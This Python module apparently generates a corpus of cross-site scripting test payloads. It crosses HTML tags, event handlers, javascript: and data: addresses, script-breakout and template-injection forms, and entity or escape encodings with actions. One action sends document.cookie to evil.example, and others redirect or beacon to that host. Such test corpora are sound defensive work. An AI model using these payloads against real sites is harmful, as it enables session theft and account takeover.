"""Strings that do harm where a page takes text for markup, script, style or an address.

Those of `payloads.txt` are written down one a line, after the forms that cheat sheets for testers and collections of
browser quirks describe, and polyglots. The others are made here: forms of markup times what they would do.
"""

from itertools import product
from pathlib import Path

_DEEDS = (
    "window.__pwned=1",
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "console.error('pwned')",
    "location='https://evil.example/'",
    "new(Image)().src='https://evil.example/i'",
)
"""What a payload would do, each of which a test sees."""

_EVENTS = {
    "img": "src=x onerror",
    "image": "src=x onerror",
    "video": "src=x onerror",
    "audio": "src=x onerror",
    "object": "data=x onerror",
    "script": "src=x onerror",
    "link": "rel=stylesheet href=x onerror",
    "svg": "onload",
    "body": "onload",
    "iframe": "onload",
    "style": "onload",
    "input": "autofocus onfocus",
    "button": "autofocus onfocus",
    "details": "open ontoggle",
    "marquee": "onstart",
    "div": "style=animation-name:x onanimationstart",
    "a": "href=# onmouseover",
    "p": "onpointerenter",
}
_TAGS = (
    "<{tag} {event}={deed}>",
    '<{tag} {event}="{deed}">',
    "<{tag} {event}='{deed}'//>",
    "<{tag}/{event}={deed}/>",
    "<{upper}\t{event}\n=\n{deed}>",
    '"><{tag} {event}={deed}>',
    "'/><{tag} {event}={deed}><!--",
)
_ATTRIBUTES = ('" onmouseover="{deed}', "' onfocus='{deed}' autofocus='", "` onclick=`{deed}")
_ADDRESSES = (
    "javascript:{deed}",
    "JaVaScRiPt:{deed}",
    "java\tscript:{deed}",
    "java\nscript:{deed}",
    " \x01javascript:{deed}",
    "vbscript:{deed}",
    "data:text/html,<script>{deed}</script>",
    "data:image/svg+xml,<svg onload={deed} xmlns='http://www.w3.org/2000/svg'/>",
    "javascript://news.example/%0a{deed}",
    'https://news.example/"><script>{deed}</script>',
    "//evil.example/?{deed}",
)
_SCRIPTS = (
    "<script>{deed}</script>",
    "<script>{deed}//",
    "<ScRiPt >{deed}</sCrIpT >",
    "<script\x0c>{deed}</script>",
    "<script type=module>{deed}</script>",
    "<script>/*</script>*/{deed}</script>",
    "</script><script>{deed}</script>",
    "</style></title></textarea></noscript><script>{deed}</script>",
    "<!--<script>-->{deed}</script>",
    "<svg><script>{deed}</script>",
    "<math><script>{deed}</script></math>",
    "<iframe srcdoc='<script>{deed}</script>'>",
    "<template><script>{deed}</script></template>",
    "<b\x00><scr\x00ipt>{deed}</script>",
    "\u2028<script>{deed}</script>\u2029",
    "</scr\u00adipt><script>{deed}</script>",
    '{{"a":"</script><script>{deed}</script>"}}',
    "{{{{constructor.constructor(`{deed}`)()}}}}",
    "${{{deed}}}",
    "<style>*{{background:url('javascript:{deed}')}}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{deed}'>",
    "<base href='javascript:{deed}//'>",
    "<form action='javascript:{deed}'><input type=submit autofocus>",
)


def _made() -> list[str]:
    tags = [
        form.format(tag=tag, upper=tag.upper(), event=event, deed=deed)
        for (tag, event), form, deed in product(_EVENTS.items(), _TAGS, _DEEDS)
    ]
    others = [form.format(deed=deed) for form, deed in product((*_ATTRIBUTES, *_ADDRESSES, *_SCRIPTS), _DEEDS)]
    return [*tags, *others, *map(_entities, others), *map(_escapes, others)]


def _entities(payload: str) -> str:
    """The same as character references."""
    return "".join(f"&#x{ord(c):x};" if c in "<>'\"&:/" else c for c in payload)


def _escapes(payload: str) -> str:
    """The same as a script or a style sheet would spell it."""
    return "".join(f"\\u{ord(c):04x}" if c in "<>'\"&:/" else c for c in payload)


WRITTEN = (Path(__file__).parent / "payloads.txt").read_text(encoding="utf-8").splitlines()
PAYLOADS = tuple(dict.fromkeys([*WRITTEN, *_made()]))
